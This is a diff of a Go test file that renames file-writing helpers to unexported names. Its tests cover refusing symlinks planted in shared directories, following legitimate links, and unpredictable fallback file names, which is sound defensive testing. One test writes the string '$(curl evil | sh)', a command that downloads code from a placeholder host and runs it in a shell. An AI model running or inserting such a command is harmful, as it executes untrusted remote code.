@@ -96,7 +96,7 @@ func TestWritingRefusesALinkAnotherUserPlantedInASharedDirectory(t *testing.T) {
 				call func() error
 			}{
 				{"CheckWritable", func() error { return CheckWritable(path) }},
-				{"WriteFileAtomic", func() error { return WriteFileAtomic(path, 0o600, writeString("$(curl evil | sh)")) }},
+				{"writeFileAtomic", func() error { return writeFileAtomic(path, 0o600, writeString("$(curl evil | sh)")) }},
 			} {
 				err := op.call()
 				var unsafe *UnsafeLinkError
@@ -161,8 +161,8 @@ func TestWritingFollowsLinksTheKernelWouldFollow(t *testing.T) {
 			if err := CheckWritable(link); err != nil {
 				t.Fatalf("CheckWritable: %v", err)
 			}
-			if err := WriteFileAtomic(link, 0o600, writeString("new")); err != nil {
-				t.Fatalf("WriteFileAtomic: %v", err)
+			if err := writeFileAtomic(link, 0o600, writeString("new")); err != nil {
+				t.Fatalf("writeFileAtomic: %v", err)
 			}
 			checkFile(t, target, "new", 0o600)
 			if fi, err := os.Lstat(link); err != nil || fi.Mode()&os.ModeSymlink == 0 {
@@ -241,7 +241,7 @@ func TestWriteFallback(t *testing.T) {
 				planted = append(planted, link)
 			}
 		}
-		path, err := WriteFallback(dir, started, ".json", body)
+		path, err := writeFallback(dir, started, ".json", body)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -262,11 +262,11 @@ func TestWriteFallback(t *testing.T) {
 
 	t.Run("the name is not predictable from the time: two fallbacks of one scan differ", func(t *testing.T) {
 		dir := t.TempDir()
-		a, err := WriteFallback(dir, started, ".json", body)
+		a, err := writeFallback(dir, started, ".json", body)
 		if err != nil {
 			t.Fatal(err)
 		}
-		b, err := WriteFallback(dir, started, ".json", body)
+		b, err := writeFallback(dir, started, ".json", body)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -287,7 +287,7 @@ func TestWriteFallback(t *testing.T) {
 	t.Run("a directory that takes no file sends the fallback to TMPDIR", func(t *testing.T) {
 		tmp := t.TempDir()
 		t.Setenv("TMPDIR", tmp)
-		path, err := WriteFallback(filepath.Join(t.TempDir(), "missing"), started, ".csv", body)
+		path, err := writeFallback(filepath.Join(t.TempDir(), "missing"), started, ".csv", body)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -300,7 +300,7 @@ func TestWriteFallback(t *testing.T) {
 	t.Run("when neither directory takes a file, the error names both", func(t *testing.T) {
 		t.Setenv("TMPDIR", filepath.Join(t.TempDir(), "gone"))
 		missing := filepath.Join(t.TempDir(), "missing")
-		_, err := WriteFallback(missing, started, ".json", body)
+		_, err := writeFallback(missing, started, ".json", body)
 		if err == nil || !strings.Contains(err.Error(), missing) || !strings.Contains(err.Error(), "gone") {
 			t.Errorf("error %v, want one naming both directories", err)
 		}
